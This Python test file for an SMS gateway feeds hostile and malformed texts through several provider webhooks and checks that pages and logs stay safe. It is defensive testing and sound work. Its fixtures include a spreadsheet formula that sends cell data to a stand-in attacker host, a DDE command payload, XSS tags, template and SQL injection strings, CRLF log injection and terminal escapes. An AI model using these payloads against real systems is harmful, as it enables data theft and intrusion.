"""The worst that a text can hold, through the real doors: each is kept, the workers live, pages and logs show it safely."""

import json
import logging
import re
from collections.abc import Callable, Iterator
from io import StringIO
from urllib.parse import quote_from_bytes

import pytest
from pytest_httpserver import HTTPServer
from sqlalchemy import select

from smsgw.logs import set_up_logs
from smsgw.store.tables import Complaint, Inbound, Outgoing
from tests.conftest import log_plainly
from tests.handlers.desks import signed_in
from tests.journeys.conftest import AFRICASTALKING, AT_TOKEN, TWILIO, Town, signed, twilio_form
from tests.providers.dialects import ANDROID_KEY, android_event, android_signed

KANNEL_TOKEN = "a-kannel-token-of-the-tests-only"
NEIGHBOUR = "+84900000999"
ROAD = "PA GT duong Quang Trung phuong Tay Son hu nang"
HIDING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")

TEXTS = {
    "nul": "PA GT duong \x00 hong",
    "combining marks": "a" + "\u0301" * 1_500,
    "bidi controls": "PA DN \u202emat dien\u202c \u2066o thon 2\u2069 xa Cuu An",
    "right to left": "الشارع مكسور في البلدة القديمة",
    "joined emoji": "PA MT rac 👩‍👩‍👧‍👦🏳️‍🌈❤️ o cho An Khe",
    "a formula": '=HYPERLINK("http://evil.example?x="&A1,"bam vao day")',
    "an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a script": "PA <script>alert(1)</script><img src=x onerror=alert(1)>",
    "template signs": "PA {{7*7}} ${7*7} <%= 7*7 %> {% raw %}",
    "line breaks": "PA GT duong hong\r\nX-Injected: yes\r\n\r\nlevel=error event=gia",
    "terminal escapes": "PA GT \x1b[2J\x1b]0;gia\x07\x1b[31mdo\x1b[0m hong",
    "quotes for a database": "'; drop table inbound; --",
    "nothing": "",
    "blanks": " \t\n ",
    "one sign again and again": "!" * 1_500,
    "private and unassigned signs": "PA \ue000\U000f0000\u0378\ufffe hong",
    "digits of the world": "١٢٣٤٥ ৪৫৬ 12345 ①②",
}
BYTES = {
    "invalid UTF-8": b"PA GT \xff\xfe\xc3\x28\xe2\x82 hong",
    "overlong UTF-8": b"PA GT \xc0\xaf\xe0\x80\xaf hong",
    "surrogates in UTF-8": b"PA GT \xed\xa0\x80\xed\xb0\x80 hong",
    "NUL": b"PA GT \x00 hong",
}


@pytest.fixture
def environment(environment: dict[str, str], httpserver: HTTPServer) -> dict[str, str]:
    kannel = {
        "KANNEL_SENDSMS_URL": httpserver.url_for("/cgi-bin/sendsms"),
        "KANNEL_USERNAME": "house",
        "KANNEL_PASSWORD": "open-sesame",
        "KANNEL_FROM": "8079",
        "KANNEL_CALLBACK_TOKEN": KANNEL_TOKEN,
    }
    android = {
        "ANDROID_API_BASE": httpserver.url_for("/3rdparty/v1"),
        "ANDROID_USERNAME": "house",
        "ANDROID_PASSWORD": "open-sesame",
        "ANDROID_WEBHOOK_KEY": ANDROID_KEY,
    }
    everybody = {"SMSGW_SMS_IN": "twilio,africastalking,kannel,android", "SMSGW_SMS_OUT": "simulator,twilio"}
    return {
        **environment,
        **TWILIO,
        **AFRICASTALKING,
        **kannel,
        **android,
        **everybody,
        "TWILIO_API_BASE": httpserver.url_for("").rstrip("/"),
    }


@pytest.fixture
def logs() -> Iterator[StringIO]:
    root = logging.getLogger()
    before, level = root.handlers[:], root.level
    said = StringIO()
    set_up_logs(production=True, stream=said)
    yield said
    root.handlers[:] = before
    root.setLevel(level)
    log_plainly()


def by_twilio(town: Town, ident: str, sender: str, text: str) -> int:
    form = twilio_form(text, sender, ident)
    return town.client().post("/sms/twilio", data=form, headers=signed("/sms/twilio", form)).status_code


def by_kannel(town: Town, ident: str, sender: str, raw: bytes, charset: str = "UTF-8") -> int:
    pairs = f"from={quote_from_bytes(sender.encode())}&to=8079&id={ident}&charset={charset}&coding=0&udh="
    return town.client().get(f"/sms/kannel/{KANNEL_TOKEN}?{pairs}&text={quote_from_bytes(raw)}").status_code


def by_africastalking(town: Town, ident: str, sender: str, raw: bytes) -> int:
    body = f"id={ident}&from={quote_from_bytes(sender.encode())}&to=8079&text={quote_from_bytes(raw)}"
    form = "application/x-www-form-urlencoded"
    return town.client().post(f"/sms/africastalking/{AT_TOKEN}", data=body, content_type=form).status_code


def by_android(town: Town, ident: str, sender: str, text: str) -> int:
    """JSON can write a half of a surrogate pair."""
    payload = {"messageId": ident, "sender": sender, "recipient": "8079", "message": text, "receivedAt": ""}
    call = android_signed(android_event("sms:received", "/sms/android", **payload), at=town.gateway.now())
    headers = {name: call.headers[name] for name in ("content-type", "x-timestamp", "x-signature")}
    return town.client().post("/sms/android", data=call.body, headers=headers).status_code


def _everything(town: Town) -> dict[str, int]:
    """Each horror by each door that can carry it; the answer by name."""
    answers: dict[str, int] = {}

    def by(door: Callable[..., int], name: str, what: str | bytes, *more: str) -> None:
        number = len(answers)
        answers[f"{door.__name__} {name} {more}"] = door(town, f"ID{number}", f"+84900{number:06}", what, *more)

    for name, text in TEXTS.items():
        by(by_twilio, name, text)
        by(by_kannel, name, text.encode())
        by(by_kannel, name, text.encode("utf-16-be"), "UTF-16BE")
        by(by_android, name, text)
    for name, raw in BYTES.items():
        by(by_kannel, name, raw)
        by(by_africastalking, name, raw)
    by(by_kannel, "lone surrogates", b"\x00P\x00A\xd8\x00\x00 \xdc\x00\x00x", "UTF-16BE")
    by(by_kannel, "half a letter", b"\x00P\x00A\x00", "UTF-16BE")
    by(by_kannel, "ten thousand combining marks", b"a" + "\u0301".encode() * 10_000)
    by(by_android, "lone surrogates", "PA \ud800 duong \udfff hong")
    return answers


def test_each_is_taken_kept_and_worked_on_and_a_neighbours_text_is_answered(town: Town, logs: StringIO) -> None:
    answers = _everything(town)
    assert {name: answer for name, answer in answers.items() if answer != 200} == {}
    assert by_twilio(town, "SM" + "f" * 32, NEIGHBOUR, ROAD) == 200
    while town.gateway.listener().batch():
        pass
    with town.gateway.database.read() as session:
        texts = session.scalars(select(Inbound)).all()
        replies = session.scalars(select(Outgoing.body).where(Outgoing.recipient == NEIGHBOUR)).all()
    assert len(texts) == len(answers) + 1
    assert {text.state for text in texts} == {"processed"}
    assert len(replies) == 1
    _pages_are_safe(town)
    _lines_are_safe(logs)


def _pages_are_safe(town: Town) -> None:
    """Nothing that hides, reorders or runs reaches a browser."""
    desk = signed_in(town.app, "giamsat-tinh")
    with town.gateway.database.read() as session:
        references = session.scalars(select(Complaint.reference).order_by(Complaint.id)).all()
    pages = ["/desk/", "/desk/?page=2", "/desk/texts", *(f"/desk/{reference}" for reference in references)]
    for path in pages:
        answer = desk.opens(path)
        assert answer.status_code == 200, path
        page = answer.get_data(as_text=True)
        assert not HIDING.search(page), path
        assert "<script>alert" not in page
        assert "<img src=x" not in page


def _lines_are_safe(logs: StringIO) -> None:
    """One entry a line, whole JSON, no number and no sign that moves a terminal."""
    for line in logs.getvalue().splitlines():
        json.loads(line)
        assert "\x1b" not in line
        assert not re.search(r"\+?84900\d{6}", line)


def test_a_body_nested_without_end_is_refused_and_the_house_goes_on(town: Town) -> None:
    event = android_event("sms:received", "/sms/android")
    nested = b'{"event":"sms:received","payload":' + b"[" * 7_000 + b"]" * 7_000 + b"}"
    call = android_signed(
        type(event)("POST", "/sms/android", {}, event.query, event.form, nested), at=town.gateway.now()
    )
    headers = {"content-type": "application/json", **call.headers}
    assert town.client().post("/sms/android", data=nested, headers=headers).status_code == 400
    assert by_twilio(town, "SM" + "f" * 32, NEIGHBOUR, ROAD) == 200


def test_what_no_network_carries_is_refused_at_the_door(town: Town) -> None:
    """A hundred kilobytes is more than the 255 parts that a text can have; no phone sends half of that."""
    assert by_twilio(town, "SM" + "e" * 32, "+84900000001", "a" * 100_000) == 413


def test_the_longest_text_that_phones_send_is_taken_in_full_marks(town: Town) -> None:
    """Forty parts of Vietnamese, every letter nine octets in a form."""
    text = "ữ" * (67 * 40)
    assert by_twilio(town, "SM" + "d" * 32, "+84900000001", text) == 200
    with town.gateway.database.read() as session:
        assert session.scalars(select(Inbound.body)).all() == [text]
